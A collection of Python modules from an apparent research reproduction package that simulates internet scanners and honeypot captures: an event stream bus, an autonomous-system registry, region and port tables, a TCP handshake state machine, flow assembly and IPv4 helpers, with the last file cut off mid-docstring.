            "payload": event.payload,
            "credentials": event.credentials,
            "commands": event.commands,
        }
        return cls(event.vantage_id, event.network, event.network_kind,
                   event.region, columns, 0, 1)

    def raw(self, name: str):
        """The column as stored: a scalar, or an *unsliced* array."""
        return self.columns[name]

    def resolved(self, name: str) -> np.ndarray:
        """The column as a length-``len(self)`` array (scalars broadcast)."""
        value = self.columns[name]
        if isinstance(value, np.ndarray):
            return value[self.start:self.stop]
        length = len(self)
        if isinstance(value, (bytes, tuple)):
            out = np.empty(length, dtype=object)
            out[:] = [value] * length
            return out
        return np.full(length, value)


class Consumer(Protocol):  # pragma: no cover - typing aid
    def consume(self, chunk: StreamChunk) -> None: ...


@dataclass
class BusStats:
    """Explicit accounting of everything the bus did."""

    published_chunks: int = 0
    published_events: int = 0
    delivered_chunks: int = 0
    delivered_events: int = 0
    dropped_chunks: int = 0
    dropped_events: int = 0
    #: Times a publish hit the buffer bound and forced a synchronous
    #: flush (the backpressure policy's producer-pays signal).
    backpressure_flushes: int = 0
    #: Most events ever buffered at once.
    queue_high_water: int = 0

    def as_dict(self) -> dict:
        return {
            "published_chunks": self.published_chunks,
            "published_events": self.published_events,
            "delivered_chunks": self.delivered_chunks,
            "delivered_events": self.delivered_events,
            "dropped_chunks": self.dropped_chunks,
            "dropped_events": self.dropped_events,
            "backpressure_flushes": self.backpressure_flushes,
            "queue_high_water": self.queue_high_water,
        }


class StreamBus:
    """Bounded in-order pub/sub bus for captured-event chunks."""

    POLICIES = ("backpressure", "drop")

    def __init__(
        self,
        max_buffered_events: int = 65536,
        policy: str = "backpressure",
    ) -> None:
        if max_buffered_events < 1:
            raise ValueError("max_buffered_events must be >= 1")
        if policy not in self.POLICIES:
            raise ValueError(f"unknown policy {policy!r} (choose from {self.POLICIES})")
        self.max_buffered_events = max_buffered_events
        self.policy = policy
        self.stats = BusStats()
        self._queue: deque[StreamChunk] = deque()
        self._buffered_events = 0
        self._subscribers: list[Consumer] = []
        #: Called after every flush that delivered at least one chunk
        #: (the watch service hangs snapshot cadence off this).
        self.on_flush: Optional[Callable[[int], None]] = None

    # -- wiring --------------------------------------------------------

    def subscribe(self, consumer: Consumer) -> None:
        self._subscribers.append(consumer)

    def table_tap(self) -> Callable:
        """An :meth:`EventTable.set_append_hook` callback publishing here."""
        def _tap(table, columns: dict, start: int, stop: int) -> None:
            self.publish(StreamChunk.from_table_chunk(table, columns, start, stop))
        return _tap

    def event_tap(self) -> Callable[[CapturedEvent], None]:
        """A ``LiveHoneypot.on_event`` callback publishing here."""
        def _tap(event: CapturedEvent) -> None:
            self.publish(StreamChunk.from_event(event))
        return _tap

    # -- publish / deliver ---------------------------------------------

    @property
    def buffered_events(self) -> int:
        return self._buffered_events

    def publish(self, chunk: StreamChunk) -> bool:
        """Enqueue one chunk; returns False iff the chunk was dropped."""
        length = len(chunk)
        if length == 0:
            return True
        self.stats.published_chunks += 1
        self.stats.published_events += length
        if self._buffered_events + length > self.max_buffered_events:
            if self.policy == "drop":
                self.stats.dropped_chunks += 1
                self.stats.dropped_events += length
                return False
            self.stats.backpressure_flushes += 1
            self.flush()
        self._queue.append(chunk)
        self._buffered_events += length
        self.stats.queue_high_water = max(
            self.stats.queue_high_water, self._buffered_events
        )
        return True

    def flush(self) -> int:
        """Deliver every buffered chunk to every subscriber, in order."""
        delivered = 0
        while self._queue:
            chunk = self._queue.popleft()
            self._buffered_events -= len(chunk)
            for subscriber in self._subscribers:
                subscriber.consume(chunk)
            self.stats.delivered_chunks += 1
            self.stats.delivered_events += len(chunk)
            delivered += len(chunk)
        if delivered and self.on_flush is not None:
            self.on_flush(delivered)
        return delivered

    def close(self) -> int:
        """Flush whatever remains (end of stream)."""
        return self.flush()
