"""Network primitives: IPv4 addressing, AS registry, geography, packets, flows."""

from repro.net.addresses import (
    IPv4Address,
    Prefix,
    ends_in_255,
    has_255_octet,
    int_to_ip,
    ip_to_int,
    is_first_of_slash16,
    octets_of,
    rolling_average,
)
from repro.net.asn import ASRegistry, AutonomousSystem, default_registry
from repro.net.flows import Flow, FlowAssembler, assemble_flows
from repro.net.geo import Continent, GeoRegion, REGIONS, region, region_pairs, regions_in
from repro.net.packets import Packet, TcpConnection, TcpFlags, Transport

__all__ = [
    "IPv4Address",
    "Prefix",
    "ip_to_int",
    "int_to_ip",
    "octets_of",
    "has_255_octet",
    "ends_in_255",
    "is_first_of_slash16",
    "rolling_average",
    "ASRegistry",
    "AutonomousSystem",
    "default_registry",
    "Continent",
    "GeoRegion",
    "REGIONS",
    "region",
    "regions_in",
    "region_pairs",
    "Packet",
    "TcpFlags",
    "Transport",
    "TcpConnection",
    "Flow",
    "FlowAssembler",
    "assemble_flows",
]
