"""Autonomous-system model and registry.

The paper identifies scanning actors by autonomous system rather than IP
address "to account for scanning campaigns that rely on multiple source IP
addresses" (Section 3.3).  This module provides:

* :class:`AutonomousSystem` — an AS with its prefixes, name, and country.
* :class:`ASRegistry` — longest-prefix-match IP→AS lookup plus allocation
  of fresh source addresses inside an AS (used by the traffic simulator).

The default registry (:func:`default_registry`) is seeded with every AS the
paper names, at real ASNs, plus synthetic "background" ASes that fill out
the long tail of scanning origins.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Iterator, Optional

import numpy as np

from repro.net.addresses import Prefix, int_to_ip

__all__ = ["AutonomousSystem", "ASRegistry", "default_registry", "PAPER_ASES"]


@dataclass(frozen=True)
class AutonomousSystem:
    """An autonomous system: number, name, country, and announced prefixes."""

    asn: int
    name: str
    country: str
    prefixes: tuple[Prefix, ...] = ()

    def __post_init__(self) -> None:
        if self.asn <= 0:
            raise ValueError(f"ASN must be positive: {self.asn}")

    def __contains__(self, address: int) -> bool:
        return any(address in prefix for prefix in self.prefixes)

    def __str__(self) -> str:
        return f"AS{self.asn} ({self.name}, {self.country})"


class ASRegistry:
    """IP→AS mapping with address allocation for traffic synthesis.

    Lookup is exact longest-prefix match over the registered prefixes.
    Allocation hands out successive host addresses from an AS's first
    prefix, so that simulated scanner IPs are stable and collision-free.
    """

    def __init__(self, systems: Iterable[AutonomousSystem] = ()) -> None:
        self._by_asn: dict[int, AutonomousSystem] = {}
        # prefix-length -> {network -> asn}; supports longest-prefix match.
        self._tables: dict[int, dict[int, int]] = {}
        self._alloc_cursor: dict[int, int] = {}
        for system in systems:
            self.add(system)

    def add(self, system: AutonomousSystem) -> None:
        if system.asn in self._by_asn:
            raise ValueError(f"duplicate ASN {system.asn}")
        for prefix in system.prefixes:
            table = self._tables.setdefault(prefix.length, {})
            if prefix.network in table:
                raise ValueError(f"prefix {prefix} already registered")
            table[prefix.network] = system.asn
        self._by_asn[system.asn] = system

    def __len__(self) -> int:
        return len(self._by_asn)

    def __iter__(self) -> Iterator[AutonomousSystem]:
        return iter(self._by_asn.values())

    def get(self, asn: int) -> AutonomousSystem:
        try:
            return self._by_asn[asn]
        except KeyError:
            raise KeyError(f"unknown ASN {asn}") from None

    def __contains__(self, asn: int) -> bool:
        return asn in self._by_asn

    def lookup(self, address: int) -> Optional[AutonomousSystem]:
        """Longest-prefix-match an address to its origin AS, or ``None``."""
        for length in sorted(self._tables, reverse=True):
            mask = 0 if length == 0 else (((1 << 32) - 1) << (32 - length)) & ((1 << 32) - 1)
            asn = self._tables[length].get(address & mask)
            if asn is not None:
                return self._by_asn[asn]
        return None

    def asn_of(self, address: int) -> int:
        """Return the origin ASN for an address, raising if unrouted."""
        system = self.lookup(address)
        if system is None:
            raise KeyError(f"address {int_to_ip(address)} is not announced by any AS")
        return system.asn

    def allocate_source(self, asn: int) -> int:
        """Allocate the next unused host address inside an AS.

        The simulator calls this to mint stable per-scanner source IPs.
        Raises ``RuntimeError`` once an AS's first prefix is exhausted.
        """
        return int(self.allocate_sources(asn, 1)[0])

    def allocate_sources(self, asn: int, count: int) -> np.ndarray:
        """Allocate ``count`` consecutive host addresses inside an AS.

        Vectorized form of :meth:`allocate_source`: one cursor bump mints
        a whole campaign's source pool as a ``uint32`` array.  Raises
        ``RuntimeError`` once an AS's first prefix is exhausted.
        """
        if count < 0:
            raise ValueError("count must be non-negative")
        system = self.get(asn)
        if not system.prefixes:
            raise RuntimeError(f"AS{asn} has no prefixes to allocate from")
        prefix = system.prefixes[0]
        cursor = self._alloc_cursor.get(asn, 1)  # skip the network address
        if prefix.first + cursor + count - 1 > prefix.last:
            raise RuntimeError(f"AS{asn} prefix {prefix} exhausted")
        self._alloc_cursor[asn] = cursor + count
        start = prefix.first + cursor
        return np.arange(start, start + count, dtype=np.int64).astype(np.uint32)


def _prefix(cidr: str) -> tuple[Prefix, ...]:
    return (Prefix.parse(cidr),)


#: Every autonomous system the paper names, with its real ASN.  Prefixes are
#: synthetic (documentation/benchmark ranges carved from distinct /8s) since
#: only the ASN↔name↔country mapping matters to the analyses.
PAPER_ASES: tuple[AutonomousSystem, ...] = (
    AutonomousSystem(398324, "Censys", "US", _prefix("13.0.0.0/16")),
    AutonomousSystem(10439, "Shodan (CariNet)", "US", _prefix("14.0.0.0/16")),
    AutonomousSystem(4134, "Chinanet", "CN", _prefix("61.128.0.0/12")),
    AutonomousSystem(56046, "China Mobile", "CN", _prefix("112.0.0.0/13")),
    AutonomousSystem(9808, "China Mobile GD", "CN", _prefix("120.192.0.0/12")),
    AutonomousSystem(53667, "PonyNet (FranTech)", "US", _prefix("104.244.72.0/21")),
    AutonomousSystem(174, "Cogent", "US", _prefix("38.0.0.0/12")),
    AutonomousSystem(5384, "Emirates Internet", "AE", _prefix("94.200.0.0/14")),
    AutonomousSystem(14522, "SATNET", "EC", _prefix("186.4.0.0/15")),
    AutonomousSystem(6503, "Axtel", "MX", _prefix("187.160.0.0/13")),
    AutonomousSystem(198605, "Avast (AVAST Software)", "CZ", _prefix("77.234.40.0/21")),
    AutonomousSystem(9009, "M247", "RO", _prefix("146.70.0.0/16")),
    AutonomousSystem(60068, "CDN77", "GB", _prefix("89.187.160.0/20")),
    AutonomousSystem(16509, "Amazon AWS", "US", _prefix("52.0.0.0/11")),
    AutonomousSystem(15169, "Google", "US", _prefix("34.64.0.0/11")),
    AutonomousSystem(8075, "Microsoft Azure", "US", _prefix("20.0.0.0/11")),
    AutonomousSystem(63949, "Linode", "US", _prefix("45.33.0.0/17")),
    AutonomousSystem(6939, "Hurricane Electric", "US", _prefix("64.62.0.0/17")),
    AutonomousSystem(32, "Stanford University", "US", _prefix("171.64.0.0/14")),
    AutonomousSystem(237, "Merit Network", "US", _prefix("198.108.0.0/16")),
)

#: Synthetic long-tail scanner origins.  Real scanning traffic in the paper
#: comes from ~680 ASes per honeypot with a heavy tail; these fill that tail.
_BACKGROUND_AS_SPECS: tuple[tuple[int, str, str, str], ...] = tuple(
    (asn, name, country, cidr)
    for asn, name, country, cidr in (
        (4837, "China Unicom", "CN", "121.8.0.0/13"),
        (45090, "Tencent", "CN", "119.28.0.0/15"),
        (37963, "Alibaba", "CN", "47.92.0.0/14"),
        (12389, "Rostelecom", "RU", "95.24.0.0/13"),
        (49505, "Selectel", "RU", "92.53.64.0/18"),
        (14061, "DigitalOcean", "US", "157.230.0.0/15"),
        (16276, "OVH", "FR", "51.68.0.0/14"),
        (24940, "Hetzner", "DE", "88.198.0.0/15"),
        (51167, "Contabo", "DE", "173.212.192.0/18"),
        (4766, "Korea Telecom", "KR", "58.120.0.0/13"),
        (9318, "SK Broadband", "KR", "110.8.0.0/13"),
        (17974, "Telkomnet", "ID", "114.120.0.0/13"),
        (45899, "VNPT", "VN", "113.160.0.0/11"),
        (7713, "Telkom Indonesia", "ID", "125.160.0.0/13"),
        (3462, "HiNet", "TW", "59.102.0.0/15"),
        (4760, "PCCW HKT", "HK", "112.118.0.0/15"),
        (9498, "Bharti Airtel", "IN", "122.160.0.0/13"),
        (45609, "Bharti Mobility", "IN", "106.192.0.0/11"),
        (28573, "Claro Brasil", "BR", "177.32.0.0/12"),
        (8151, "Uninet Mexico", "MX", "187.184.0.0/13"),
        (3320, "Deutsche Telekom", "DE", "79.192.0.0/11"),
        (3215, "Orange", "FR", "90.0.0.0/10"),
        (2856, "BT", "GB", "86.128.0.0/10"),
        (701, "Verizon", "US", "71.96.0.0/12"),
        (7922, "Comcast", "US", "73.0.0.0/9"),
        (20473, "Vultr (Choopa)", "US", "45.76.0.0/15"),
        (396982, "Google Cloud Platform", "US", "35.192.0.0/12"),
        (135377, "UCloud HK", "HK", "152.32.128.0/17"),
        (202425, "IP Volume", "NL", "80.82.64.0/20"),
        (204428, "SS-Net", "RO", "185.156.72.0/22"),
        (211252, "Delis LLC", "RU", "193.3.19.0/24"),
        (208843, "Alpha Strike Labs", "DE", "45.83.64.0/22"),
        (47890, "Unmanaged LTD", "GB", "193.27.228.0/22"),
        (57523, "Chang Way Technologies", "HK", "91.240.118.0/24"),
        (49870, "Alsycon", "NL", "141.98.80.0/22"),
        (36352, "ColoCrossing", "US", "192.3.0.0/16"),
        (55286, "ServerMania", "US", "104.168.0.0/17"),
        (29073, "Quasi Networks", "SC", "191.101.0.0/18"),
        (9299, "Philippine LDT", "PH", "112.198.0.0/16"),
    )
)


def default_registry(extra: Iterable[AutonomousSystem] = ()) -> ASRegistry:
    """Build the default AS registry: paper ASes + background tail + extras."""
    registry = ASRegistry(PAPER_ASES)
    for asn, name, country, cidr in _BACKGROUND_AS_SPECS:
        registry.add(AutonomousSystem(asn, name, country, _prefix(cidr)))
    for system in extra:
        registry.add(system)
    return registry
