"""Geography model: continents, countries, and cloud-region taxonomy.

The paper groups continental regions "in the same manner that AWS and
Google group datacenters (i.e., North America, Europe, Asia Pacific)"
(Section 5.1).  Regions are identified by codes like ``US-OR``, ``AP-SG``,
``EU-DE`` that appear throughout Tables 4, 5, and 16.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import Iterable

__all__ = ["Continent", "GeoRegion", "REGIONS", "region", "regions_in", "region_pairs"]


class Continent(str, Enum):
    """Continental grouping used by AWS/Google datacenter taxonomy."""

    NORTH_AMERICA = "NA"
    EUROPE = "EU"
    ASIA_PACIFIC = "AP"
    SOUTH_AMERICA = "SA"
    MIDDLE_EAST = "ME"
    AFRICA = "AF"

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


@dataclass(frozen=True, order=True)
class GeoRegion:
    """A deployable geographic region (country, optionally a state/city).

    ``code`` is the identifier used in result tables (e.g. ``AP-SG``);
    ``country`` is an ISO-3166 alpha-2 code; ``subdivision`` disambiguates
    multiple regions inside a country (e.g. US states).
    """

    code: str
    country: str
    continent: Continent
    subdivision: str = ""
    city: str = ""

    @property
    def is_asia_pacific(self) -> bool:
        return self.continent is Continent.ASIA_PACIFIC

    def __str__(self) -> str:
        return self.code


def _r(code: str, country: str, continent: Continent, subdivision: str = "", city: str = "") -> GeoRegion:
    return GeoRegion(code, country, continent, subdivision, city)


#: All geographic regions appearing in the paper's Table 1 deployments.
REGIONS: tuple[GeoRegion, ...] = (
    # --- North America ---
    _r("US-OH", "US", Continent.NORTH_AMERICA, "OH", "Columbus"),
    _r("US-OR", "US", Continent.NORTH_AMERICA, "OR", "The Dalles"),
    _r("US-CA", "US", Continent.NORTH_AMERICA, "CA", "Los Angeles"),
    _r("US-GA", "US", Continent.NORTH_AMERICA, "GA", "Atlanta"),
    _r("US-NV", "US", Continent.NORTH_AMERICA, "NV", "Las Vegas"),
    _r("US-UT", "US", Continent.NORTH_AMERICA, "UT", "Salt Lake City"),
    _r("US-VA", "US", Continent.NORTH_AMERICA, "VA", "Ashburn"),
    _r("US-SC", "US", Continent.NORTH_AMERICA, "SC", "Moncks Corner"),
    _r("US-IA", "US", Continent.NORTH_AMERICA, "IA", "Council Bluffs"),
    _r("US-TX", "US", Continent.NORTH_AMERICA, "TX", "San Antonio"),
    _r("US-NY", "US", Continent.NORTH_AMERICA, "NY", "Newark"),
    _r("US-WEST", "US", Continent.NORTH_AMERICA, "CA", "Stanford"),
    _r("US-EAST", "US", Continent.NORTH_AMERICA, "MI", "Ann Arbor"),
    _r("CA-QC", "CA", Continent.NORTH_AMERICA, "QC", "Montreal"),
    _r("CA-TOR", "CA", Continent.NORTH_AMERICA, "ON", "Toronto"),
    # --- Europe ---
    _r("EU-FR", "FR", Continent.EUROPE, "", "Paris"),
    _r("EU-IE", "IE", Continent.EUROPE, "", "Dublin"),
    _r("EU-DE", "DE", Continent.EUROPE, "", "Frankfurt"),
    _r("EU-CH", "CH", Continent.EUROPE, "", "Zurich"),
    _r("EU-NL", "NL", Continent.EUROPE, "", "Eemshaven"),
    _r("EU-GB", "GB", Continent.EUROPE, "", "London"),
    _r("EU-BE", "BE", Continent.EUROPE, "", "St. Ghislain"),
    _r("EU-FI", "FI", Continent.EUROPE, "", "Hamina"),
    # --- Asia Pacific ---
    _r("AP-AU", "AU", Continent.ASIA_PACIFIC, "", "Sydney"),
    _r("AP-SG", "SG", Continent.ASIA_PACIFIC, "", "Singapore"),
    _r("AP-IN", "IN", Continent.ASIA_PACIFIC, "", "Mumbai"),
    _r("AP-KR", "KR", Continent.ASIA_PACIFIC, "", "Seoul"),
    _r("AP-JP", "JP", Continent.ASIA_PACIFIC, "", "Tokyo"),
    _r("AP-HK", "HK", Continent.ASIA_PACIFIC, "", "Hong Kong"),
    _r("AP-TW", "TW", Continent.ASIA_PACIFIC, "", "Changhua"),
    _r("AP-ID", "ID", Continent.ASIA_PACIFIC, "", "Jakarta"),
    # --- Other ---
    _r("SA-BR", "BR", Continent.SOUTH_AMERICA, "", "Sao Paulo"),
    _r("ME-BH", "BH", Continent.MIDDLE_EAST, "", "Manama"),
    _r("AF-ZA", "ZA", Continent.AFRICA, "", "Cape Town"),
)

_BY_CODE = {entry.code: entry for entry in REGIONS}


def region(code: str) -> GeoRegion:
    """Look up a region by its table code (e.g. ``"AP-SG"``)."""
    try:
        return _BY_CODE[code]
    except KeyError:
        raise KeyError(f"unknown region code {code!r}") from None


def regions_in(continent: Continent, codes: Iterable[str] | None = None) -> list[GeoRegion]:
    """All known regions in a continent, optionally restricted to ``codes``."""
    pool = REGIONS if codes is None else [region(code) for code in codes]
    return [entry for entry in pool if entry.continent is continent]


def region_pairs(codes: Iterable[str]) -> list[tuple[GeoRegion, GeoRegion]]:
    """All unordered pairs of distinct regions, in deterministic order.

    The paper compares every pair of regions within a grouping (e.g. the
    ``n=31`` US pairs of Table 5 column headers).
    """
    ordered = sorted({region(code) for code in codes})
    pairs = []
    for index, first in enumerate(ordered):
        for second in ordered[index + 1 :]:
            pairs.append((first, second))
    return pairs
