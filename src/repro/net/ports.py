"""IANA port-to-protocol assignments used throughout the analyses.

The Section 6 finding is precisely that scanners do *not* respect these
assignments; the map below is what a payload-less telescope (or a default
honeypot framework) would assume about traffic on a port.
"""

from __future__ import annotations

__all__ = ["IANA_ASSIGNMENTS", "assigned_protocol", "POPULAR_PORTS"]

#: IANA-assigned (or de-facto standard) application protocol per port.
IANA_ASSIGNMENTS: dict[int, str] = {
    21: "ftp",
    22: "ssh",
    23: "telnet",
    25: "smtp",
    80: "http",
    123: "ntp",
    443: "tls",
    445: "smb",
    554: "rtsp",
    1433: "sql",
    1911: "fox",
    2222: "ssh",
    2323: "telnet",
    3306: "sql",
    3389: "rdp",
    5060: "sip",
    5555: "adb",
    6379: "redis",
    7547: "cwmp",
    7574: "oracle",
    8080: "http",
    8443: "tls",
}

#: The popular ports Tables 8/9 iterate over, in the paper's row order.
POPULAR_PORTS: tuple[int, ...] = (23, 2323, 80, 8080, 21, 2222, 25, 7547, 22, 443)


def assigned_protocol(port: int) -> str:
    """The protocol a payload-less observer would assume for ``port``.

    Unassigned ports return ``"unknown"`` rather than raising: telescopes
    receive traffic on all 65536 ports.
    """
    return IANA_ASSIGNMENTS.get(port, "unknown")
