"""Layer-3/4 packet records and the TCP handshake state machine.

Capture semantics in the paper differ per vantage type:

* the **telescope** records only the first packet of a connection and never
  completes the TCP handshake, so it can never observe payloads;
* **Honeytrap** completes the handshake and records the first TCP payload
  (or the first UDP payload);
* **GreyNoise** sensors complete TCP/TLS handshakes and record the first
  payload, plus full credential exchanges on SSH/Telnet ports via Cowrie.

This module provides the packet record type and a server-side TCP state
machine that the honeypot frameworks use to implement those semantics; the
simulator and the live loopback replayer both speak it.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Iterator, Optional

__all__ = ["Transport", "TcpFlags", "Packet", "TcpServerState", "TcpConnection", "syn_packet"]


class Transport(str, enum.Enum):
    """Transport-layer protocol of a packet."""

    TCP = "tcp"
    UDP = "udp"

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


class TcpFlags(enum.IntFlag):
    """TCP header flags (subset used by the simulation)."""

    NONE = 0
    FIN = 0x01
    SYN = 0x02
    RST = 0x04
    PSH = 0x08
    ACK = 0x10


@dataclass(frozen=True, slots=True)
class Packet:
    """A single captured packet.

    ``timestamp`` is in fractional hours since the start of the observation
    window, matching the paper's per-hour volume analyses.
    """

    timestamp: float
    src_ip: int
    dst_ip: int
    src_port: int
    dst_port: int
    transport: Transport = Transport.TCP
    flags: TcpFlags = TcpFlags.NONE
    payload: bytes = b""

    def __post_init__(self) -> None:
        if not 0 <= self.src_port <= 65535:
            raise ValueError(f"invalid src_port {self.src_port}")
        if not 0 <= self.dst_port <= 65535:
            raise ValueError(f"invalid dst_port {self.dst_port}")

    @property
    def is_syn(self) -> bool:
        return bool(self.flags & TcpFlags.SYN) and not (self.flags & TcpFlags.ACK)

    @property
    def flow_key(self) -> tuple[int, int, int, int, Transport]:
        return (self.src_ip, self.src_port, self.dst_ip, self.dst_port, self.transport)


def syn_packet(
    timestamp: float, src_ip: int, dst_ip: int, dst_port: int, src_port: int = 40000
) -> Packet:
    """Convenience constructor for the opening SYN of a TCP connection."""
    return Packet(
        timestamp=timestamp,
        src_ip=src_ip,
        dst_ip=dst_ip,
        src_port=src_port,
        dst_port=dst_port,
        transport=Transport.TCP,
        flags=TcpFlags.SYN,
    )


class TcpServerState(enum.Enum):
    """Server-side TCP connection states (simplified RFC 793 subset)."""

    LISTEN = "listen"
    SYN_RECEIVED = "syn-received"
    ESTABLISHED = "established"
    CLOSED = "closed"


@dataclass
class TcpConnection:
    """Server-side view of one TCP connection.

    The honeypot frameworks feed client packets through :meth:`receive`;
    the connection tracks handshake completion and accumulates the first
    client payload, which is all the paper's capture stacks retain.

    ``responds`` models whether the server completes handshakes at all:
    a telescope sets ``responds=False`` and therefore never transitions
    past SYN_RECEIVED, so no payload is ever observed.
    """

    client_ip: int
    client_port: int
    server_ip: int
    server_port: int
    responds: bool = True
    state: TcpServerState = TcpServerState.LISTEN
    opened_at: Optional[float] = None
    first_payload: bytes = b""
    payload_packets: int = 0

    def receive(self, packet: Packet) -> None:
        """Advance the state machine with one client packet."""
        if packet.transport is not Transport.TCP:
            raise ValueError("TcpConnection only accepts TCP packets")
        if self.state is TcpServerState.CLOSED:
            return
        if packet.flags & TcpFlags.RST:
            self.state = TcpServerState.CLOSED
            return
        if self.state is TcpServerState.LISTEN:
            if packet.is_syn:
                self.opened_at = packet.timestamp
                self.state = TcpServerState.SYN_RECEIVED
            return
        if self.state is TcpServerState.SYN_RECEIVED:
            if not self.responds:
                # Server never sent SYN-ACK; client data can never arrive
                # in a legitimate stack, so we stay here and drop payloads.
                return
            if packet.flags & TcpFlags.ACK:
                self.state = TcpServerState.ESTABLISHED
                # An ACK carrying data (common in replays) counts as payload.
                self._absorb(packet)
            return
        if self.state is TcpServerState.ESTABLISHED:
            self._absorb(packet)
            if packet.flags & TcpFlags.FIN:
                self.state = TcpServerState.CLOSED

    def _absorb(self, packet: Packet) -> None:
        if packet.payload:
            self.payload_packets += 1
            if not self.first_payload:
                self.first_payload = packet.payload

    @property
    def handshake_completed(self) -> bool:
        return self.state in (TcpServerState.ESTABLISHED, TcpServerState.CLOSED) and (
            self.opened_at is not None
        )


def client_handshake_packets(
    timestamp: float,
    src_ip: int,
    dst_ip: int,
    dst_port: int,
    payload: bytes = b"",
    src_port: int = 40000,
    inter_packet_gap: float = 1e-6,
) -> Iterator[Packet]:
    """Generate the client side of a TCP connection as a packet sequence.

    Yields SYN, ACK (completing the handshake), and — if ``payload`` is
    non-empty — a PSH+ACK data packet.  The simulator uses this to turn a
    scan intent into wire traffic for whichever capture stack receives it.
    """
    yield syn_packet(timestamp, src_ip, dst_ip, dst_port, src_port)
    yield Packet(
        timestamp=timestamp + inter_packet_gap,
        src_ip=src_ip,
        dst_ip=dst_ip,
        src_port=src_port,
        dst_port=dst_port,
        flags=TcpFlags.ACK,
    )
    if payload:
        yield Packet(
            timestamp=timestamp + 2 * inter_packet_gap,
            src_ip=src_ip,
            dst_ip=dst_ip,
            src_port=src_port,
            dst_port=dst_port,
            flags=TcpFlags.PSH | TcpFlags.ACK,
            payload=payload,
        )
