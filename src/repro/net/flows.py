"""Flow assembly: group raw packets into per-connection flow records.

A *flow* here is one client connection attempt toward one (dst_ip,
dst_port).  Honeypot frameworks consume flows rather than packets, which
keeps their capture logic independent of wire details.  The assembler also
powers the live loopback integration tests, where the same code path
processes packets synthesized from real socket reads.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Iterator

from repro.net.packets import Packet, TcpConnection, Transport

__all__ = ["Flow", "FlowAssembler", "assemble_flows"]


@dataclass(frozen=True, slots=True)
class Flow:
    """One assembled connection attempt.

    ``handshake_completed`` is False when the server side never responded
    (telescope semantics) or the client never ACKed.  ``first_payload`` is
    empty in that case by construction.
    """

    started_at: float
    src_ip: int
    src_port: int
    dst_ip: int
    dst_port: int
    transport: Transport
    handshake_completed: bool
    first_payload: bytes
    packet_count: int

    @property
    def has_payload(self) -> bool:
        return bool(self.first_payload)


class FlowAssembler:
    """Incrementally assemble packets into flows.

    ``server_responds`` controls handshake semantics for every tracked
    connection — a telescope assembler passes ``False`` and therefore
    produces payload-free flows.

    Usage::

        assembler = FlowAssembler(server_responds=True)
        for packet in packets:
            assembler.feed(packet)
        flows = list(assembler.finish())
    """

    def __init__(self, server_responds: bool = True) -> None:
        self._server_responds = server_responds
        self._connections: dict[tuple, TcpConnection] = {}
        self._udp_flows: dict[tuple, Flow] = {}
        self._packet_counts: dict[tuple, int] = {}
        self._order: list[tuple] = []

    def feed(self, packet: Packet) -> None:
        """Consume one packet."""
        key = packet.flow_key
        if key not in self._packet_counts:
            self._order.append(key)
            self._packet_counts[key] = 0
        self._packet_counts[key] += 1

        if packet.transport is Transport.UDP:
            # UDP has no handshake: the first datagram *is* the payload.
            if key not in self._udp_flows:
                self._udp_flows[key] = Flow(
                    started_at=packet.timestamp,
                    src_ip=packet.src_ip,
                    src_port=packet.src_port,
                    dst_ip=packet.dst_ip,
                    dst_port=packet.dst_port,
                    transport=Transport.UDP,
                    handshake_completed=False,
                    first_payload=packet.payload if self._server_responds else b"",
                    packet_count=0,
                )
            return

        connection = self._connections.get(key)
        if connection is None:
            connection = TcpConnection(
                client_ip=packet.src_ip,
                client_port=packet.src_port,
                server_ip=packet.dst_ip,
                server_port=packet.dst_port,
                responds=self._server_responds,
            )
            self._connections[key] = connection
        connection.receive(packet)

    def finish(self) -> Iterator[Flow]:
        """Yield one flow per connection, in arrival order."""
        for key in self._order:
            count = self._packet_counts[key]
            if key in self._udp_flows:
                base = self._udp_flows[key]
                yield Flow(
                    started_at=base.started_at,
                    src_ip=base.src_ip,
                    src_port=base.src_port,
                    dst_ip=base.dst_ip,
                    dst_port=base.dst_port,
                    transport=base.transport,
                    handshake_completed=base.handshake_completed,
                    first_payload=base.first_payload,
                    packet_count=count,
                )
                continue
            connection = self._connections[key]
            src_ip, src_port, dst_ip, dst_port, transport = key
            yield Flow(
                started_at=connection.opened_at if connection.opened_at is not None else 0.0,
                src_ip=src_ip,
                src_port=src_port,
                dst_ip=dst_ip,
                dst_port=dst_port,
                transport=transport,
                handshake_completed=connection.handshake_completed,
                first_payload=connection.first_payload,
                packet_count=count,
            )


def assemble_flows(packets: Iterable[Packet], server_responds: bool = True) -> list[Flow]:
    """One-shot helper: feed all packets and return the flow list."""
    assembler = FlowAssembler(server_responds=server_responds)
    for packet in packets:
        assembler.feed(packet)
    return list(assembler.finish())
