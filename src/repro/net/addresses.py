"""IPv4 address and prefix primitives.

The paper's Section 4.2 analyses hinge on *address structure*: scanners
avoid addresses with a ``255`` octet, prefer the first address of a /16,
or latch onto individual addresses.  This module provides an integer-backed
IPv4 address type, CIDR prefixes, and vectorized structure predicates used
both by the scanner strategies (to filter targets) and by the analysis
pipeline (to measure the filtering).

Addresses are represented as plain ``int`` in most hot paths; the
:class:`IPv4Address` wrapper adds formatting and octet accessors for code
where readability matters more than speed.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Iterable, Iterator

import numpy as np

__all__ = [
    "IPv4Address",
    "Prefix",
    "ip_to_int",
    "int_to_ip",
    "octets_of",
    "has_255_octet",
    "ends_in_255",
    "is_first_of_slash16",
    "is_first_of_slash24",
    "vector_has_255_octet",
    "vector_ends_in_255",
    "vector_is_first_of_slash16",
    "rolling_average",
]

_DOTTED_RE = re.compile(r"^(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})$")

MAX_IPV4 = (1 << 32) - 1


def ip_to_int(dotted: str) -> int:
    """Parse a dotted-quad string into a 32-bit integer.

    >>> ip_to_int("10.0.0.1")
    167772161
    """
    match = _DOTTED_RE.match(dotted.strip())
    if match is None:
        raise ValueError(f"invalid IPv4 address: {dotted!r}")
    octets = [int(part) for part in match.groups()]
    if any(octet > 255 for octet in octets):
        raise ValueError(f"invalid IPv4 address: {dotted!r}")
    return (octets[0] << 24) | (octets[1] << 16) | (octets[2] << 8) | octets[3]


def int_to_ip(value: int) -> str:
    """Format a 32-bit integer as a dotted-quad string.

